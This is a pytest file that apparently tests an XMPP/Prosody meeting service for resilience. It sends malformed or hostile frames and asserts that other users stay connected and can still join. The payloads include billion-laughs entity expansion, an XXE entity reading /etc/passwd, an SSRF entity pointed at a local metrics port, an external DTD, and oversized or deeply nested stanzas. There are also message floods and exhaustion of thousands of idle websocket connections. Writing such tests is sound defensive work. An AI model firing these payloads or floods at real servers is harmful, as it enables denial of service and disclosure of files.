"""Invariant 4, turned round: nobody makes the door unavailable by what they send.

Who is inside stays, and who is invited gets in within seconds.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import time

import aiohttp
import pytest
from tests.attacks.people import MEET, URLS, Meeting, Person, Site
from tests.xmpp import CLIENT, Client, Refused

SECONDS = 5
LAUGHS = (
    "<!DOCTYPE l [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(n + 1)} '{f'&{chr(n)};' * 10}'>" for n in range(ord("a"), ord("k")))
    + "]>"
)
GROUPCHAT = "<message xmlns='jabber:client' to='ROOM' type='groupchat'>"

FRAMES = {
    "billion_laughs": f"{LAUGHS}{GROUPCHAT}<body>&k;</body></message>",
    "entity_of_a_file": f"<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]>{GROUPCHAT}<body>&f;</body></message>",
    "entity_of_a_url": f"<!DOCTYPE x [<!ENTITY f SYSTEM 'http://127.0.0.1:8601/metrics'>]>{GROUPCHAT}<body>&f;</body></message>",
    "doctype": f"<!DOCTYPE message SYSTEM 'http://evil.example/x.dtd'>{GROUPCHAT}<body>x</body></message>",
    "entity_that_is_not": f"{GROUPCHAT}<body>&evil;</body></message>",
    "comment": f"{GROUPCHAT}<!-- x --><body>x</body></message>",
    "instruction": f"{GROUPCHAT}<?php x ?><body>x</body></message>",
    "xml_declaration": f"<?xml version='1.0' encoding='utf-16'?>{GROUPCHAT}<body>x</body></message>",
    "cut_off": f"{GROUPCHAT}<body>x",
    "wrong_end": f"{GROUPCHAT}<body>x</message></body>",
    "undeclared_prefix": f"{GROUPCHAT}<x:body>x</x:body></message>",
    "double_attribute": "<message xmlns='jabber:client' to='a' to='b'/>",
    "control_character": f"{GROUPCHAT}<body>&#1;</body></message>",
    "surrogate": f"{GROUPCHAT}<body>&#xD800;</body></message>",
    "nul": f"{GROUPCHAT}<body>\0</body></message>",
    "no_xml": "GET / HTTP/1.1\r\n\r\n",
    "empty": "",
    "white_space": " " * 1000,
    "stream_header": "<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>",
    "second_open": f"<open xmlns='urn:ietf:params:xml:ns:xmpp-framing' to='auth.{MEET}' version='1.0'/>",
    "two_in_one": f"{GROUPCHAT}<body>x</body></message>" * 2,
    "unknown_element": "<evil xmlns='jabber:client'/>",
    "other_namespace": "<message xmlns='jabber:server' to='x'/>",
    "deep": GROUPCHAT + "<a>" * 8_000 + "</a>" * 8_000 + "</message>",
    "deep_presence": "<presence xmlns='jabber:client' to='ROOM/aaaa0001'>"
    + "<a>" * 8_000
    + "</a>" * 8_000
    + "</presence>",
    "wide": GROUPCHAT + "<a/>" * 10_000 + "</message>",
    "many_attributes": "<message xmlns='jabber:client' " + " ".join(f"a{n}='x'" for n in range(4_000)) + "/>",
    "long_attribute": f"<message xmlns='jabber:client' id='{'x' * 100_000}' to='ROOM' type='groupchat'/>",
    "long_name": f"<message xmlns='jabber:client' to='ROOM' type='groupchat'><{'a' * 100_000}/></message>",
    "long_address": f"<message xmlns='jabber:client' to='{'x' * 5000}@{MEET}'/>",
    "giant": f"{GROUPCHAT}<body>{'x' * 3_000_000}</body></message>",
    "giant_presence": f"<presence xmlns='jabber:client' to='ROOM/aaaa0001'><status>{'x' * 400_000}</status></presence>",
}


async def still_works(site: Site, inside: Client, newcomer: Person) -> None:
    """Who is inside is answered; somebody new with an honest ticket comes in and is seen."""
    began = time.monotonic()
    await inside.ping()
    assert not inside.closed.is_set()
    async with newcomer.enter() as client:
        await inside.wait_for(lambda s: s.get("from") == f"{client.room_jid}/{client.nick}", within=SECONDS)
    assert time.monotonic() - began < SECONDS


async def throw(client: Client, frame: str | bytes, kind: aiohttp.WSMsgType = aiohttp.WSMsgType.TEXT) -> None:
    data = frame.encode() if isinstance(frame, str) else frame
    with contextlib.suppress(aiohttp.ClientError, ConnectionError):
        await client._transport._socket.send_frame(data, kind)
    with contextlib.suppress(Refused, TimeoutError):
        await asyncio.wait_for(client.ping(), 1)


@pytest.mark.parametrize("name", FRAMES)
async def test_odd_frame_from_inside_harms_nobody_else(site: Site, meeting: Meeting, name: str):
    anna, bo = meeting.people[:2]
    async with anna.enter() as inside:
        before = len(inside.received)
        async with bo.enter("aaaa0001") as attacker:
            await throw(attacker, FRAMES[name].replace("ROOM", attacker.room_jid))
        await still_works(site, inside, bo)
        said = [s.findtext(f"{CLIENT}body") or "" for s in inside.received[before:] if s.tag == f"{CLIENT}message"]
        assert not [body for body in said if "ha" * 10 in body or "root:" in body or len(body) > 262_144]


@pytest.mark.parametrize(
    "name", ["billion_laughs", "entity_of_a_file", "deep", "giant", "many_attributes", "nul", "no_xml"]
)
async def test_odd_frame_before_authentication_harms_nobody(site: Site, meeting: Meeting, name: str):
    anna, bo = meeting.people[:2]
    async with anna.enter() as inside:
        async with site.open() as attacker:
            await attacker.wait_for(lambda s: s.tag.endswith("}features"))
            await throw(attacker, FRAMES[name].replace("ROOM", inside.room_jid))
        await still_works(site, inside, bo)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"<message>\xff\xfe\xc0\x80</message>", aiohttp.WSMsgType.TEXT),
        (b"\xed\xa0\x80", aiohttp.WSMsgType.TEXT),
        (b"\0" * 100, aiohttp.WSMsgType.BINARY),
        (b"x" * 125, aiohttp.WSMsgType.PING),
        (b"\x00", aiohttp.WSMsgType.CLOSE),
        (b"<a/>", aiohttp.WSMsgType.CONTINUATION),
    ],
)
async def test_odd_websocket_frame_harms_nobody_else(site: Site, meeting: Meeting, data: bytes, kind):
    anna, bo = meeting.people[:2]
    async with anna.enter() as inside:
        async with bo.enter() as attacker:
            await throw(attacker, data, kind)
        await still_works(site, inside, bo)


@pytest.mark.parametrize("body", ["", "x", "<body/>", "<a>" * 8_000, LAUGHS + "<body>&k;</body>", "x" * 300_000])
async def test_odd_bosh_request_harms_nobody(site: Site, meeting: Meeting, body: str):
    anna, bo = meeting.people[:2]
    async with anna.enter(transport="bosh") as inside, aiohttp.ClientSession() as http:
        for sid in ("", inside._transport._sid[:-1] + "x"):
            with contextlib.suppress(aiohttp.ClientError, TimeoutError):
                data = body.replace(
                    "<body/>", f"<body xmlns='http://jabber.org/protocol/httpbind' sid='{sid}' rid='1'/>"
                )
                async with http.post(
                    URLS["bosh"], data=data.encode(), ssl=site.trust, timeout=aiohttp.ClientTimeout(3)
                ) as answer:
                    assert answer.status < 500
        await still_works(site, inside, bo)


async def test_flood_of_messages_from_inside_does_not_keep_others_out(site: Site, meeting: Meeting):
    """A megabyte at once: Prosody reads it as slowly as it allows one stream, and everybody else at their own speed."""
    anna, bo = meeting.people[:2]
    async with anna.enter() as inside, bo.enter() as attacker:
        message = f"<message to='{attacker.room_jid}' type='groupchat'><body>{'x' * 400}</body></message>"

        async def flood() -> None:
            with contextlib.suppress(aiohttp.ClientError, ConnectionError):
                for _ in range(2000):
                    await attacker.send(message)
                await attacker.send(message.replace("xxx", "end", 1))

        flooding = asyncio.create_task(flood())
        await inside.wait_for(lambda s: s.findtext(f"{CLIENT}body", "").startswith("xxx"))
        for _ in range(3):
            await still_works(site, inside, await asyncio.to_thread(meeting.newcomer))
        with pytest.raises(TimeoutError):  # half a minute's worth at that speed
            await inside.wait_for(lambda s: s.findtext(f"{CLIENT}body", "").startswith("end"), within=4)
        flooding.cancel()
        await asyncio.gather(flooding, return_exceptions=True)


async def test_flood_of_attempts_to_enter_other_rooms_does_not_keep_others_out(site: Site, meeting: Meeting):
    anna, bo = meeting.people[:2]
    async with anna.enter() as inside, site.connect(bo.ticket()) as attacker:
        for n in range(300):
            await attacker.send(
                f"<presence to='{n:032x}@conference.{MEET}/x'><x xmlns='http://jabber.org/protocol/muc'/></presence>"
            )
        await still_works(site, inside, await asyncio.to_thread(meeting.newcomer))


async def test_flood_of_bad_tickets_does_not_keep_others_out(site: Site, meeting: Meeting):
    anna = meeting.people[0]
    newcomer = await asyncio.to_thread(meeting.newcomer)
    async with anna.enter() as inside:
        bad = {"room": "x" * 32, "token": "e30.e30.e30"}
        attempts = [asyncio.create_task(site.refused(bad)) for _ in range(100)]
        await still_works(site, inside, newcomer)
        assert set(await asyncio.gather(*attempts)) <= {"bad-ticket", "unavailable"}


async def test_one_address_holds_a_limited_number_of_idle_connections(site: Site, meeting: Meeting):
    """As many as one address may have, and more; everybody else comes from another address."""
    anna, bo = meeting.people[:2]
    source = site.foreign_address()
    async with anna.enter() as inside, contextlib.AsyncExitStack() as stack:
        http = await stack.enter_async_context(
            aiohttp.ClientSession(connector=aiohttp.TCPConnector(local_addr=(source, 0), limit=0))
        )
        opened = await asyncio.gather(
            *(
                http.ws_connect(
                    URLS["websocket"], protocols=["xmpp"], ssl=site.trust, timeout=aiohttp.ClientWSTimeout(1)
                )
                for _ in range(300)
            ),
            return_exceptions=True,
        )
        held = [one for one in opened if isinstance(one, aiohttp.ClientWebSocketResponse)]
        assert 200 <= len(held) <= 256
        assert {error.status for error in opened if isinstance(error, aiohttp.WSServerHandshakeError)} == {429}
        await still_works(site, inside, bo)


UPGRADE = (
    f"GET /xmpp-websocket HTTP/1.1\r\nHost: {MEET}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eHh4eHh4eHh4eHh4eHh4eA==\r\nSec-WebSocket-Protocol: xmpp\r\n\r\n"
)


async def test_thousands_of_idle_connections_do_not_keep_others_out(site: Site, meeting: Meeting):
    """From a dozen addresses, each a websocket that Prosody has taken and on which nobody says anything."""
    anna, bo = meeting.people[:2]
    sources = itertools.cycle([await asyncio.to_thread(site.foreign_address) for _ in range(12)])
    held: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    at_once = asyncio.Semaphore(50)

    async def idle(source: str) -> None:
        async with at_once:
            reader, writer = await asyncio.open_connection(MEET, 443, ssl=site.trust, local_addr=(source, 0))
            held.append((reader, writer))
            writer.write(UPGRADE.encode())
            assert b" 101 " in await reader.readuntil(b"\r\n\r\n")

    def open_now() -> int:
        return len([reader for reader, _ in held if not reader.at_eof()])

    ticket = await asyncio.to_thread(bo.ticket)
    async with anna.enter() as inside:
        try:
            while open_now() < 2100:  # those of half a minute ago are closed already
                assert len(held) < 5000, "this machine is too slow for so many at once"
                await asyncio.gather(*(idle(next(sources)) for _ in range(300)))
            began = time.monotonic()
            async with site.connect(ticket) as client:
                await client.join("aaaa0001")
                await inside.wait_for(lambda s: s.get("from") == f"{client.room_jid}/aaaa0001", within=SECONDS)
            await inside.ping()
            assert time.monotonic() - began < SECONDS
            assert open_now() > 2000
        finally:
            for _, writer in held:
                writer.transport.abort()


async def test_slow_reader_does_not_hold_up_the_others(site: Site, meeting: Meeting):
    anna, bo = meeting.people[:2]
    slow = await asyncio.to_thread(meeting.newcomer)
    async with anna.enter() as inside, bo.enter() as speaker, slow.enter() as deaf:
        deaf._reader.cancel()
        deaf._transport._socket._response.connection.transport.pause_reading()
        for n in range(60):
            await speaker.send(
                f"<message to='{speaker.room_jid}' type='groupchat'><body>{n:04d}{'x' * 900}</body></message>"
            )
        await inside.wait_for(lambda s: s.findtext(f"{CLIENT}body", "").startswith("0059"))
        await still_works(site, inside, await asyncio.to_thread(meeting.newcomer))
